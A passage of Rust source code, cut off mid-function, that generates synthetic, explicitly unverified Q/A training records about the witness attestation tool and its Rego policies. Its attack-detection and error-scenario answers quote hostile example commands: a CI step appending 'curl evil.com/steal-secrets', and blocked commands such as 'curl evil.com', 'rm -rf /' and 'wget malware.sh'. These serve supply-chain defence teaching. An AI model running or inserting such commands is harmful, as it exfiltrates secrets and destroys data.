//! Unverified knowledge Q/A: troubleshooting, CLI concepts, attestor fields,
//! security-focused Rego, attack detection, failure explanations and edge
//! cases.
//!
//! These records carry no executed configuration; they are plain templates
//! over static tables, or over the JSON schemas `witness attestors schema`
//! prints. Output shape is the same three-message record the verified
//! generator writes. Every `rego` block here is a complete module, so
//! `verify-rego` can check them.

use anyhow::Result;
use base64::{engine::general_purpose::STANDARD, Engine};
use clap::ValueEnum;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde_json::{json, Value};
use tracing::{info, warn};

use crate::attestor::Attestor;
use crate::record::TrainingRecord;
use crate::witness::WitnessCli;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum KnowledgeKind {
    Troubleshooting,
    Concepts,
    Fields,
    /// Field Q/A from the installed witness binary's attestor schemas.
    Schema,
    /// Security Rego patterns in seeded question phrasings.
    ComplexRego,
    AttackDetection,
    /// Why a verification fails, with the policy that catches it.
    ErrorScenarios,
    EdgeCases,
}

const TROUBLESHOOTING: [(&str, &str); 5] = [
    (
        "Why do I get 'unknown flag: --key'?",
        r#"The correct flag is `--signer-file-key-path` or `-k`, not `--key`.

**Correct usage**:
```bash
witness run --step build \
  --signer-file-key-path key.pem \
  -o build.att \
  -- go build
```

**Short form**:
```bash
witness run --step build -k key.pem -o build.att -- go build
```"#,
    ),
    (
        "How do I fix 'failed to load any signers'?",
        r#"This error means witness couldn't load a signing key. Check:

1. **Key file exists**: `ls -la key.pem`
2. **Key file permissions**: `chmod 600 key.pem`
3. **Key format is correct**: Ed25519 or RSA

**Generate Ed25519 key**:
```bash
openssl genpkey -algorithm ed25519 -out key.pem
```

**Generate RSA key**:
```bash
openssl genrsa -out key.pem 2048
```

Then use with `-k key.pem`"#,
    ),
    (
        "What does 'attestor not found' mean?",
        r#"The attestor name is incorrect. Use the exact name from `witness attestors list`.

**Common mistakes**:
- `commandrun` → Correct: `command-run` (with hyphen)
- `aws-iid` → Correct: `aws` (no -iid suffix)

**Check available attestors**:
```bash
witness attestors list
```

**Correct usage**:
```bash
witness run --step build -a git,environment,material,product -k key.pem -o build.att -- go build
```"#,
    ),
    (
        "Why does verification fail with 'no verifiers present to validate against collection verifiers'?",
        r#"This usually means the public key in your policy doesn't match the signing key.

**Debug steps**:

1. **Extract key ID from attestation**:
```bash
jq -r '.signatures[0].keyid' build.att
```

2. **Check policy has that key ID**:
```bash
jq '.publickeys | keys' policy.json
```

3. **Ensure key IDs match**:
The `publickeyid` in functionaries must match a key in `publickeys`.

**Fix**: Regenerate the policy with the key ID extracted from the attestation."#,
    ),
    (
        "How do I debug Rego policy failures?",
        r#"Test Rego policies with OPA before adding them to witness:

**1. Save Rego to file**:
```bash
cat > policy.rego <<'EOF'
package git
import rego.v1
deny contains msg if {
    input.branch != "main"
    msg := "Wrong branch"
}
EOF
```

**2. Create test input from attestation**:
```bash
jq '.predicate.attestations[] | select(.type | contains("git")) | .attestation' build.att > test-input.json
```

**3. Test with OPA**:
```bash
opa eval -d policy.rego -i test-input.json 'data.git.deny'
```

**4. Check output**:
- Empty result `{}` - policy passed
- Has values - shows denial messages

This lets you test Rego before running full witness verify."#,
    ),
];

const CONCEPTS: [(&str, &str); 4] = [
    (
        "What are the main flags for witness run?",
        r#"The main flags for `witness run` are:

**Required**:
- `--step <name>` - Step name for the attestation
- `--signer-file-key-path <path>` or `-k` - Private key for signing
- `-- <command>` - Command to run and attest

**Common**:
- `--attestations <list>` or `-a` - Comma-separated attestor list (default: environment,git)
- `--outfile <path>` or `-o` - Output file for signed attestation
- `--trace` - Enable process tracing (Linux only)

**Example**:
```bash
witness run --step build \
  --signer-file-key-path key.pem \
  --attestations git,environment,material,product \
  --outfile build.att \
  -- go build -o app
```"#,
    ),
    (
        "What are the main flags for witness verify?",
        r#"The main flags for `witness verify` are:

**Required**:
- `--policy <path>` or `-p` - Signed policy document
- `--publickey <path>` or `-k` - Public key to verify policy signature
- `--attestations <file>` - Attestation file(s) to verify
- `-f <file>` - Artifact file to verify against

**Example**:
```bash
witness verify \
  --policy policy-signed.json \
  --publickey policy-key.pub \
  --attestations build.att \
  -f myapp
```"#,
    ),
    (
        "What is the structure of a witness policy document?",
        r#"A witness policy document has this structure:

```json
{
  "expires": "2027-12-31T23:59:59Z",
  "steps": {
    "<step-name>": {
      "name": "<step-name>",
      "attestations": [
        {"type": "https://witness.dev/attestations/<attestor>/v0.1"}
      ],
      "functionaries": [
        {"type": "publickey", "publickeyid": "<key-id>"}
      ]
    }
  },
  "publickeys": {
    "<key-id>": {
      "keyid": "<key-id>",
      "key": "<base64-encoded-public-key>"
    }
  }
}
```

**Key fields**:
- `expires`: Policy expiration timestamp (RFC 3339)
- `steps`: Map of step names to step definitions
- `attestations`: Required attestor types for the step
- `functionaries`: Authorized signers for the step
- `publickeys`: Map of key IDs to public keys

Sign the policy with:
```bash
witness sign --infile policy.json --outfile policy-signed.json --signer-file-key-path policy-key.pem
```"#,
    ),
    (
        "What is a functionary in witness?",
        r#"A **functionary** is an authorized signer for a witness step. It controls who can create attestations for each step in your pipeline.

**Types**:
1. **publickey** - a specific public key must sign
2. **X.509** - certificate-based authorization

**Example**:
```json
{
  "steps": {
    "build": {
      "functionaries": [
        {"type": "publickey", "publickeyid": "sha256:abc123..."}
      ]
    }
  }
}
```

`witness verify` checks each attestation signature against the step's functionaries. Every `publickeyid` must name a key in the policy's `publickeys` map, otherwise verification fails."#,
    ),
];

/// A Rego pattern for one attestor, asked about in several phrasings.
struct RegoPattern {
    name: &'static str,
    attestor: Attestor,
    /// Lowercase verb phrase: "enforce builds only from main or master".
    goal: &'static str,
    rego: &'static str,
}

const COMPLEX_REGO: [RegoPattern; 8] = [
    RegoPattern {
        name: "git_branch_enforcement",
        attestor: Attestor::Git,
        goal: "enforce builds only from the main or master branch",
        rego: r#"package git

import rego.v1

allowed_branches := {"main", "master"}

deny contains msg if {
    not input.branch in allowed_branches
    msg := sprintf("Must build from allowed branch, got: %s", [input.branch])
}"#,
    },
    RegoPattern {
        name: "git_clean_working_dir",
        attestor: Attestor::Git,
        goal: "reject builds with uncommitted changes",
        rego: r#"package git

import rego.v1

deny contains msg if {
    count(input.status) > 0
    msg := "Working directory must be clean - no uncommitted changes"
}

deny contains msg if {
    some file, status in input.status
    msg := sprintf("Uncommitted file detected: %s (%s)", [file, status.worktree])
}"#,
    },
    RegoPattern {
        name: "commandrun_exit_code",
        attestor: Attestor::CommandRun,
        goal: "require the attested command to exit successfully",
        rego: r#"package commandrun

import rego.v1

deny contains msg if {
    input.exitcode != 0
    msg := sprintf("Command failed with exit code %d", [input.exitcode])
}"#,
    },
    RegoPattern {
        name: "commandrun_command_allowlist",
        attestor: Attestor::CommandRun,
        goal: "only allow specific build commands",
        rego: r#"package commandrun

import rego.v1

approved_commands := {
    ["go", "build", "-o", "app"],
    ["go", "build", "-o=app", "."],
    ["make", "all"],
    ["npm", "run", "build"]
}

deny contains msg if {
    not input.cmd in approved_commands
    msg := sprintf("Unauthorized build command: %v", [input.cmd])
}"#,
    },
    RegoPattern {
        name: "environment_ci_required",
        attestor: Attestor::Environment,
        goal: "require builds to run in a CI environment",
        rego: r#"package environment

import rego.v1

deny contains msg if {
    not "CI" in object.keys(input.variables)
    msg := "Must run in CI environment (CI variable not set)"
}

deny contains msg if {
    input.variables.CI != "true"
    msg := sprintf("CI must be true, got: %s", [input.variables.CI])
}"#,
    },
    RegoPattern {
        name: "environment_os_restriction",
        attestor: Attestor::Environment,
        goal: "restrict builds to an approved operating system",
        rego: r#"package environment

import rego.v1

approved_os := {"linux"}

deny contains msg if {
    not input.os in approved_os
    msg := sprintf("Must build on approved OS, got: %s", [input.os])
}"#,
    },
    RegoPattern {
        name: "git_author_authorization",
        attestor: Attestor::Git,
        goal: "restrict which authors may commit",
        rego: r#"package git

import rego.v1

approved_emails := {
    "alice@example.com",
    "bob@example.com",
    "ci-bot@example.com"
}

deny contains msg if {
    not input.authoremail in approved_emails
    msg := sprintf("Unauthorized commit author: %s", [input.authoremail])
}

deny contains msg if {
    input.authoremail != input.committeremail
    msg := sprintf("Author (%s) != Committer (%s) - possible forgery",
                   [input.authoremail, input.committeremail])
}"#,
    },
    RegoPattern {
        name: "git_signed_commits",
        attestor: Attestor::Git,
        goal: "require GPG-signed commits",
        rego: r#"package git

import rego.v1

deny contains msg if {
    count(input.signature) == 0
    msg := "Commits must be GPG signed"
}

deny contains msg if {
    not startswith(input.signature, "-----BEGIN PGP SIGNATURE-----")
    msg := "Invalid GPG signature format"
}"#,
    },
];

const REGO_QUESTION_TEMPLATES: [&str; 8] = [
    "How do I write a Rego policy to {goal}?",
    "Show me a Rego policy that will {goal}.",
    "I need a policy to {goal}. How do I write it?",
    "Create a Rego rule to {goal}.",
    "How can I {goal} with Rego?",
    "What witness Rego module would {goal}?",
    "Write a {attestor} attestation policy to {goal}.",
    "Can a witness policy {goal}? Show the Rego.",
];

const ATTACK_DETECTION: [(&str, &str, &str); 6] = [
    (
        "Compromised Build Command",
        "How does witness detect if an attacker modifies my build command in CI?",
        r#"Witness detects modified build commands through the command-run attestor and Rego policies.

**Attack Vector**:
Attacker gains access to CI configuration and changes:
```yaml
# Original
- run: go build -o app

# Attacker modifies to
- run: go build -o app && curl evil.com/steal-secrets
```

**Detection with Witness**:
```rego
package commandrun

import rego.v1

approved_commands := {
    ["go", "build", "-o", "app"],
    ["make", "all"]
}

deny contains msg if {
    not input.cmd in approved_commands
    msg := sprintf("Unauthorized command detected: %v", [input.cmd])
}
```

**How it works**:
1. Witness records the actual command executed
2. Policy verifies command matches allowlist
3. Modified command fails verification
4. Attack is detected before deployment

**Remediation**:
- Review CI configuration for unauthorized changes
- Rotate signing keys if compromised
- Investigate how attacker gained access"#,
    ),
    (
        "Artifact Tampering",
        "How does witness prevent someone from modifying my build artifact after it's created?",
        r#"Witness prevents artifact tampering through cryptographic hashing in product attestations.

**Attack Vector**:
Attacker modifies binary after build but before deployment:
```bash
# Build creates app (hash: abc123)
go build -o app

# Attacker injects malware
echo "malicious code" >> app  # Now hash: def456
```

**Detection with Witness**:
The product attestor records SHA256 hash of files:
```json
{
  "app": {
    "sha256": "abc123...original-hash"
  }
}
```

When you try to verify tampered file:
```bash
witness verify -p policy.json -a build.att -f app
# FAILS: artifact hash mismatch
```

**How it works**:
1. Product attestor hashes file immediately after build
2. Hash is cryptographically signed
3. Any modification changes the hash
4. Verification detects mismatch

**Why this matters**: Even if attacker has deployment access, they cannot modify artifacts without detection."#,
    ),
    (
        "Unauthorized Signer",
        "How does witness prevent an attacker from creating fake attestations?",
        r#"Witness prevents fake attestations through functionary validation in policies.

**Attack Vector**:
Attacker creates their own attestation with stolen/fake signing key.

**Detection with Witness Policy**:
```json
{
  "publickeys": {
    "trusted-ci-key": {
      "keyid": "sha256:abc123...",
      "key": "-----BEGIN PUBLIC KEY-----..."
    }
  },
  "steps": {
    "build": {
      "functionaries": [{
        "type": "publickey",
        "publickeyid": "trusted-ci-key"
      }]
    }
  }
}
```

**How it works**:
1. Policy lists ONLY authorized signing keys
2. `witness verify` checks attestation signature
3. If signed by different key, verification fails
4. Attacker's fake attestation rejected

**Key Management Best Practices**:
- Store signing keys in CI secrets/vault
- Never commit private keys to git
- Rotate keys periodically
- Use different keys for different steps"#,
    ),
    (
        "Dependency Confusion",
        "How can witness help detect dependency confusion attacks?",
        r#"Witness detects dependency changes through lockfiles and material attestors.

**Attack Vector**:
Attacker publishes malicious package with same name as internal package:
```
Internal: @company/auth v1.0.0
Public: @company/auth v99.0.0 (malicious)
```

**Detection with Witness**:
```rego
package lockfiles

import rego.v1

approved_deps := {
    "@company/auth": "sha256:abc123..."
}

deny contains msg if {
    some pkg, hash in input.packages
    approved_deps[pkg]
    hash != approved_deps[pkg]
    msg := sprintf("Dependency %s hash mismatch", [pkg])
}
```

**How it works**:
1. Lockfiles attestor captures package-lock.json
2. Policy validates dependency hashes
3. Unexpected package version detected
4. Build fails before using malicious dependency

**Additional Protection**:
- Use material attestor to track package-lock.json changes
- Rego validates no unexpected modifications"#,
    ),
    (
        "CI Pipeline Compromise",
        "How does witness detect if my GitHub Actions workflow is compromised?",
        r#"Witness detects workflow tampering through the github attestor and environment validation.

**Attack Vector**:
Attacker modifies .github/workflows/build.yml to:
- Disable tests
- Exfiltrate secrets
- Inject backdoors

**Detection with Witness**:
```rego
package github

import rego.v1

deny contains msg if {
    input.workflow != "build.yml"
    msg := "Unexpected workflow file"
}
```

**Environment attestor catches changes**:
```rego
package environment

import rego.v1

deny contains msg if {
    "DISABLE_TESTS" in object.keys(input.variables)
    msg := "Tests cannot be disabled"
}
```

**Multi-layer defense**:
1. GitHub attestor records workflow name
2. Environment attestor captures all env vars
3. Policies detect suspicious variables
4. Material attestor tracks .github/workflows/ changes"#,
    ),
    (
        "Unsigned Commit Injection",
        "How does witness detect unsigned commits in my build?",
        r#"Witness detects unsigned commits through git attestor signature validation.

**Attack Vector**:
Attacker pushes unsigned commit with malicious code.

**Detection with Witness**:
```rego
package git

import rego.v1

deny contains msg if {
    count(input.signature) == 0
    msg := "Commit must be GPG signed"
}

deny contains msg if {
    not startswith(input.signature, "-----BEGIN PGP SIGNATURE-----")
    msg := "Invalid signature format"
}
```

**How it works**:
1. Git attestor captures commit signature
2. Policy requires non-empty signature field
3. Unsigned commits fail verification

**Setup GPG signing**:
```bash
# Configure git to sign commits
git config --global user.signingkey <key-id>
git config --global commit.gpgsign true

# Verify in attestation
witness run --step build -a git -k key.pem -o build.att -- go build
jq '.predicate.attestations[] | select(.type | contains("git")) | .attestation.signature' build.att
```

**Why this matters**: Ensures all code is traceable to verified developers."#,
    ),
];

/// A verification failure the corpus teaches: why it happens and how to fix it.
struct ErrorScenario {
    name: &'static str,
    attestor: Option<Attestor>,
    /// Noun phrase used in the follow-up questions.
    subject: &'static str,
    question: &'static str,
    explanation: &'static str,
    /// `None` when `witness verify` itself enforces the rule.
    rego: Option<&'static str>,
}

const ERROR_SCENARIOS: [ErrorScenario; 6] = [
    ErrorScenario {
        name: "wrong_branch",
        attestor: Some(Attestor::Git),
        subject: "builds from an unauthorized branch",
        question: "Why would witness verification fail if I build from a feature branch?",
        explanation: r#"Verification fails because the Rego policy enforces building only from the 'main' branch.

**Attack scenario prevented**: Attacker creating malicious code on a feature branch and trying to deploy it.

**Policy enforcement**: `input.branch != "main"` matches every other branch.

**How to fix**:
- Switch to main branch: `git checkout main`
- Or update policy to allow your branch
- Or merge feature to main first

**This is a security feature**: policies can restrict builds to specific branches to prevent unauthorized code."#,
        rego: Some(
            r#"package git

import rego.v1

deny contains msg if {
    input.branch != "main"
    msg := sprintf("Must build from main branch, got: %s", [input.branch])
}"#,
        ),
    },
    ErrorScenario {
        name: "dirty_working_directory",
        attestor: Some(Attestor::Git),
        subject: "uncommitted changes in the working directory",
        question: "Why does verification fail when I have uncommitted files?",
        explanation: r#"Verification fails because the working directory has uncommitted changes.

**Attack scenario prevented**: Attacker modifying source code after commit but before build, leaving no git trail.

**Policy enforcement**: `count(input.status) > 0` matches any modified, added or deleted file.

**How to fix**:
- Commit your changes: `git add . && git commit -m "message"`
- Or stash them: `git stash`
- Or update policy to allow dirty working directory (not recommended)

**This is a security feature**: it ensures builds are from committed code only."#,
        rego: Some(
            r#"package git

import rego.v1

deny contains msg if {
    count(input.status) > 0
    msg := "Working directory must be clean"
}"#,
        ),
    },
    ErrorScenario {
        name: "build_failed",
        attestor: Some(Attestor::CommandRun),
        subject: "a build command that exits non-zero",
        question: "Why does verification fail when my build command fails?",
        explanation: r#"Verification fails because the command exited with a non-zero exit code (failure).

**Policy enforcement**: `input.exitcode != 0` matches every failed command.

**Common exit codes**:
- 0: Success
- 1: General failure
- 2: Misuse of command
- 127: Command not found

**How to fix**:
- Fix the build error
- Check stderr in attestation: `jq '.predicate.attestations[] | select(.type | contains("command-run")) | .attestation.stderr' attestation.json`
- Run command locally to debug

**Why this matters**: Failed builds shouldn't pass verification."#,
        rego: Some(
            r#"package commandrun

import rego.v1

deny contains msg if {
    input.exitcode != 0
    msg := sprintf("Build failed with exit code %d", [input.exitcode])
}"#,
        ),
    },
    ErrorScenario {
        name: "unauthorized_signer",
        attestor: None,
        subject: "attestations signed by an unauthorized key",
        question: "Why does verification fail with 'unauthorized functionary'?",
        explanation: r#"Verification fails because the attestation was signed by a key not in the policy's functionaries list.

**Attack scenario prevented**: Attacker with stolen/different key trying to create fraudulent attestations.

**Policy structure**:
```json
{
  "publickeys": {
    "allowed-key-id": {
      "keyid": "sha256:abc123...",
      "key": "-----BEGIN PUBLIC KEY-----..."
    }
  },
  "steps": {
    "build": {
      "functionaries": [{
        "type": "publickey",
        "publickeyid": "allowed-key-id"
      }]
    }
  }
}
```

**How to fix**:
- Use the correct signing key
- Or add your key to policy's publickeys
- Extract key ID: `jq -r '.signatures[0].keyid' attestation.json`

**This is a critical security feature**: only authorized keys can create trusted attestations."#,
        rego: None,
    },
    ErrorScenario {
        name: "missing_ci_environment",
        attestor: Some(Attestor::Environment),
        subject: "builds outside a CI environment",
        question: "Why does verification fail with 'Must run in CI environment'?",
        explanation: r#"Verification fails because the CI environment variable is not set.

**Attack scenario prevented**: Attacker running builds on their local machine instead of trusted CI.

**Policy enforcement**: `not "CI" in object.keys(input.variables)` matches when the variable is absent.

**How to fix**:
- Run in actual CI (GitHub Actions, GitLab CI, etc.)
- CI systems automatically set CI=true
- For local testing, temporarily remove this policy

**Why this matters**: Ensures builds only happen in controlled, auditable CI environments."#,
        rego: Some(
            r#"package environment

import rego.v1

deny contains msg if {
    not "CI" in object.keys(input.variables)
    msg := "Must run in CI environment"
}"#,
        ),
    },
    ErrorScenario {
        name: "malicious_command",
        attestor: Some(Attestor::CommandRun),
        subject: "an unauthorized build command",
        question: "Why does verification fail with 'Unauthorized build command'?",
        explanation: r#"Verification fails because the command doesn't match the allowlist.

**Attack scenario prevented**: Attacker modifying CI to run malicious commands (data exfiltration, backdoors).

**Policy enforcement**: `not input.cmd in approved_commands` is a strict command allowlist.

**Examples of blocked commands**:
- `["curl", "evil.com"]` - Data exfiltration
- `["rm", "-rf", "/"]` - Destructive
- `["wget", "malware.sh"]` - Malware download

**How to fix**:
- Use an approved build command
- Or add your command to the allowlist (if legitimate)

**This is a critical security feature**: it prevents command injection attacks."#,
        rego: Some(
            r#"package commandrun

import rego.v1

approved_commands := {
    ["go", "build", "-o", "app"],
    ["make", "all"]
}

deny contains msg if {
    not input.cmd in approved_commands
    msg := sprintf("Unauthorized command: %v", [input.cmd])
}"#,
        ),
    },
];

const ERROR_FOLLOW_UPS: [&str; 3] = [
    "How do I prevent {subject}?",
    "What Rego policy detects {subject}?",
    "What is the security risk of {subject}?",
];

/// (case, question, answer).
const EDGE_CASES: [(&str, &str, &str); 6] = [
    (
        "empty_commit_message",
        "How do I handle empty commit messages in Rego policies?",
        r#"Handle empty commit messages by checking string length:

```rego
package git

import rego.v1

deny contains msg if {
    count(input.commitmessage) == 0
    msg := "Commit message cannot be empty"
}

deny contains msg if {
    count(input.commitmessage) < 10
    msg := sprintf("Commit message too short: %d chars", [count(input.commitmessage)])
}
```

**Edge cases to handle**:
- Empty string: `""`
- Whitespace only: `"   "`
- Single character: `"x"`

**Robust validation**:
```rego
package git

import rego.v1

deny contains msg if {
    trimmed := trim_space(input.commitmessage)
    count(trimmed) == 0
    msg := "Commit message is empty or whitespace"
}
```"#,
    ),
    (
        "no_remote_urls",
        "What if git.remotes is empty in my attestation?",
        r#"Handle an empty git remotes array:

```rego
package git

import rego.v1

deny contains msg if {
    count(input.remotes) == 0
    msg := "No git remotes configured - not a cloned repository"
}

deny contains msg if {
    some remote in input.remotes
    not startswith(remote, "https://")
    not startswith(remote, "git@")
    msg := sprintf("Invalid remote URL: %s", [remote])
}
```

**When remotes are empty**:
- Local `git init` repositories
- Detached working trees
- Submodules

**Production recommendation**: Require remotes to ensure builds are from version-controlled code."#,
    ),
    (
        "status_map_empty",
        "How do I validate git.status when it might be empty?",
        r#"The `status` field is a map that can be empty (clean working directory) or contain modified files:

```rego
package git

import rego.v1

deny contains msg if {
    count(input.status) > 0
    msg := "Working directory must be clean"
}
```

Or allow specific files:

```rego
package git

import rego.v1

allowed_modified := {"go.sum", "package-lock.json"}

deny contains msg if {
    some file, _ in input.status
    not file in allowed_modified
    msg := sprintf("Unexpected modified file: %s", [file])
}
```

**Edge cases**:
- `status: {}` - Clean directory (valid)
- `status: {"file.go": {"worktree": "modified"}}` - Has changes
- `status: null` - Should not happen

**Type-safe check**:
```rego
package git

import rego.v1

deny contains msg if {
    not is_object(input.status)
    msg := "status must be an object"
}
```"#,
    ),
    (
        "exitcode_negative",
        "Can exitcode be negative or very large?",
        r#"Exit codes are typically 0-255, but Rego should handle edge cases:

```rego
package commandrun

import rego.v1

deny contains msg if {
    input.exitcode != 0
    msg := sprintf("Command failed: exit code %d", [input.exitcode])
}

deny contains msg if {
    input.exitcode < 0
    msg := sprintf("Invalid negative exit code: %d", [input.exitcode])
}

deny contains msg if {
    input.exitcode > 255
    msg := sprintf("Exit code out of range: %d", [input.exitcode])
}
```

**Possible values**:
- 0: Success
- 1-255: Standard errors
- -1: Sometimes returned by process errors (rare)
- 128+N: Killed by signal N

**Robust validation**:
```rego
package commandrun

import rego.v1

valid_exitcode(code) if {
    code >= 0
    code <= 255
}

deny contains msg if {
    not valid_exitcode(input.exitcode)
    msg := "Exit code outside valid range"
}
```"#,
    ),
    (
        "array_fields_empty",
        "How do I handle empty arrays in attestations?",
        r#"Many attestor fields are arrays that might be empty:

**Git arrays**:
- `parenthashes`: Empty for initial commit
- `tags`: Empty if no tags point to commit
- `refs`: Usually non-empty

```rego
package git

import rego.v1

is_initial_commit if {
    count(input.parenthashes) == 0
}

deny contains msg if {
    is_initial_commit
    input.branch != "main"
    msg := "Initial commit must be on main branch"
}

deny contains msg if {
    count(input.tags) == 0
    msg := "Release builds must have git tags"
}

deny contains msg if {
    count(input.remotes) > 0
    some remote in input.remotes
    not contains(remote, "github.com")
    msg := "Must use GitHub remotes"
}
```

**Pattern**: Always check `count(array) > 0` before iterating."#,
    ),
    (
        "special_characters",
        "How do I handle special characters in fields like branch names?",
        r#"Handle special characters with string functions and regex:

```rego
package git

import rego.v1

valid_branch_name(name) if {
    regex.match(`^[a-zA-Z0-9/._-]+$`, name)
}

deny contains msg if {
    not valid_branch_name(input.branch)
    msg := sprintf("Invalid characters in branch name: %s", [input.branch])
}

deny contains msg if {
    startswith(input.branch, "feature/")
    msg := "Feature branches not allowed in production"
}

deny contains msg if {
    contains(input.branch, " ")
    msg := sprintf("Branch name contains spaces: '%s'", [input.branch])
}
```

**Common special cases**:
- Slashes: `feature/auth`, `release/v1.0`
- Underscores: `build_artifacts`
- Hyphens: `bug-fix-123`
- Dots: `release-1.0.0`

**Validation tip**: Use regex for strict validation."#,
    ),
];

/// (attestor, [(field, type, purpose, example JSON)]).
const FIELD_TABLE: [(&str, &[(&str, &str, &str, &str)]); 4] = [
    (
        "git",
        &[
            ("commithash", "string", "The SHA hash of the current git commit", "\"a1b2c3d4e5f6...\""),
            ("branch", "string", "The current git branch name", "\"main\""),
            ("author", "string", "The commit author name", "\"Test User\""),
            ("authoremail", "string", "The commit author email", "\"test@example.com\""),
            ("commitmessage", "string", "The commit message", "\"initial commit\""),
            ("status", "object", "Working tree status keyed by path", "{}"),
            ("remotes", "array", "Remote URLs with credentials redacted", "[\"https://github.com/org/repo.git\"]"),
            ("treehash", "string", "Hash of the commit's tree object", "\"9f8e7d...\""),
        ],
    ),
    (
        "environment",
        &[
            ("os", "string", "The operating system", "\"linux\""),
            ("hostname", "string", "The system hostname where the attestation was created", "\"build-server-01\""),
            ("username", "string", "The user running the step", "\"ci-runner\""),
            ("variables", "object", "Environment variables, with sensitive values filtered", "{\"CI\": \"true\"}"),
        ],
    ),
    (
        "material",
        &[(
            "<path>",
            "object",
            "Digests of every file present before the command ran, keyed by relative path",
            "{\"sha256\": \"...\"}",
        )],
    ),
    (
        "product",
        &[(
            "<path>",
            "object",
            "Digest and MIME type of every file created or modified by the command, keyed by relative path",
            "{\"digest\": {\"sha256\": \"...\"}, \"mime_type\": \"text/plain\"}",
        )],
    ),
];

const FIELD_QUESTION_TEMPLATES: [&str; 3] = [
    "What is the {field} field in the {attestor} attestor?",
    "What does {field} contain in a {attestor} attestation?",
    "Explain the {field} field for {attestor} attestations.",
];

fn pairs(system_prompt: &str, table: &[(&str, &str)]) -> Vec<TrainingRecord> {
    table
        .iter()
        .map(|(q, a)| TrainingRecord::new(system_prompt, *q, *a))
        .collect()
}

pub fn troubleshooting(system_prompt: &str) -> Vec<TrainingRecord> {
    pairs(system_prompt, &TROUBLESHOOTING)
}

pub fn concepts(system_prompt: &str) -> Vec<TrainingRecord> {
    pairs(system_prompt, &CONCEPTS)
}

/// Overview plus per-field Q/A for the safe attestors' known fields.
pub fn fields(system_prompt: &str) -> Vec<TrainingRecord> {
    let mut out = Vec::new();
    for (attestor, entries) in FIELD_TABLE {
        let list = entries
            .iter()
            .map(|(name, ty, purpose, _)| format!("- `{name}` ({ty}) - {purpose}"))
            .collect::<Vec<_>>()
            .join("\n");
        out.push(TrainingRecord::new(
            system_prompt,
            format!("What fields does the {attestor} attestor capture?"),
            format!(
                "The {attestor} attestor captures:\n\n{list}\n\nAll of these are recorded automatically when you include `{attestor}` in `--attestations`."
            ),
        ));

        for (name, ty, purpose, example) in entries {
            for template in FIELD_QUESTION_TEMPLATES {
                let question = template
                    .replace("{field}", name)
                    .replace("{attestor}", attestor);
                let answer = format!(
                    "The `{name}` field in the {attestor} attestor contains:\n\n**Type**: `{ty}`\n\n**Purpose**: {purpose}\n\n**Example** from attestation JSON:\n```json\n{{\n  \"{name}\": {example}\n}}\n```\n\nThis field is captured automatically when you include `{attestor}` in your `--attestations` list."
                );
                out.push(TrainingRecord::new(system_prompt, question, answer));
            }
        }
    }
    out
}

/// Each pattern asked in a seeded choice of distinct phrasings, with the
/// policy fragment that embeds the module.
pub fn complex_rego(system_prompt: &str, seed: u64) -> Vec<TrainingRecord> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::new();
    for pattern in &COMPLEX_REGO {
        let mut templates = REGO_QUESTION_TEMPLATES;
        templates.shuffle(&mut rng);
        let count = rng.gen_range(4..=templates.len());

        let fragment = json!({
            "steps": {
                "build": {
                    "attestations": [{
                        "type": pattern.attestor.type_uri(),
                        "regopolicies": [{
                            "name": pattern.name,
                            "module": STANDARD.encode(pattern.rego),
                        }]
                    }]
                }
            }
        });
        let fragment = serde_json::to_string_pretty(&fragment).unwrap_or_default();
        let answer = format!(
            "Here's a Rego policy to {goal}:\n\n```rego\n{rego}\n```\n\n**Usage in Policy:**\nAdd it to the step's `{attestor}` attestation, base64-encoded:\n\n```json\n{fragment}\n```\n\nThe `module` value is the base64 encoding of the Rego above; `witness verify` evaluates it against the {attestor} attestation and fails on any `deny` message.",
            goal = pattern.goal,
            rego = pattern.rego,
            attestor = pattern.attestor,
        );

        for template in templates.iter().take(count) {
            let question = template
                .replace("{goal}", pattern.goal)
                .replace("{attestor}", pattern.attestor.name());
            out.push(
                TrainingRecord::new(system_prompt, question, answer.as_str())
                    .with_metadata("pattern", pattern.name)
                    .with_metadata("attestor", pattern.attestor.name()),
            );
        }
    }
    out
}

pub fn attack_detection(system_prompt: &str) -> Vec<TrainingRecord> {
    ATTACK_DETECTION
        .iter()
        .map(|(attack, q, a)| {
            TrainingRecord::new(system_prompt, *q, *a)
                .with_metadata("attack_type", *attack)
                .with_metadata("category", "supply_chain_security")
        })
        .collect()
}

/// The scenario's own question plus three follow-ups, all answered with the
/// explanation and (when there is one) the detecting policy.
pub fn error_scenarios(system_prompt: &str) -> Vec<TrainingRecord> {
    let mut out = Vec::new();
    for scenario in &ERROR_SCENARIOS {
        let policy = |heading: &str| match scenario.rego {
            Some(rego) => format!("\n\n**{heading}**:\n```rego\n{rego}\n```"),
            None => "\n\nNo Rego module is involved: `witness verify` checks every signature against the step's functionaries itself.".to_string(),
        };

        let mut base = TrainingRecord::new(
            system_prompt,
            scenario.question,
            format!("{}{}", scenario.explanation, policy("Policy that detects this")),
        )
        .with_metadata("scenario", scenario.name)
        .with_metadata("error_type", "security_violation");
        if let Some(a) = scenario.attestor {
            base = base.with_metadata("attestor", a.name());
        }
        out.push(base);

        for template in ERROR_FOLLOW_UPS {
            out.push(TrainingRecord::new(
                system_prompt,
                template.replace("{subject}", scenario.subject),
                format!("{}{}", scenario.explanation, policy("Detection policy")),
            ));
        }
    }
    out
}

pub fn edge_cases(system_prompt: &str) -> Vec<TrainingRecord> {
    EDGE_CASES
        .iter()
        .map(|(case, q, a)| TrainingRecord::new(system_prompt, *q, *a).with_metadata("case", *case))
        .collect()
}

/// One property of an attestor schema.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SchemaField {
    pub name: String,
    pub type_name: String,
    pub required: bool,
}

/// Fields of the attestor definition in a `witness attestors schema` document:
/// the `$defs` entry whose name contains `Attestor` (or the only entry).
pub fn schema_fields(schema: &Value) -> Vec<SchemaField> {
    let Some(defs) = schema.get("$defs").and_then(Value::as_object) else {
        return Vec::new();
    };
    let main = defs
        .iter()
        .find(|(name, _)| name.contains("Attestor") || defs.len() == 1)
        .map(|(_, def)| def);
    let Some(props) = main
        .and_then(|d| d.get("properties"))
        .and_then(Value::as_object)
    else {
        return Vec::new();
    };
    let required: Vec<&str> = main
        .and_then(|d| d.get("required"))
        .and_then(Value::as_array)
        .map(|r| r.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();

    props
        .iter()
        .filter(|(_, def)| def.is_object())
        .map(|(name, def)| {
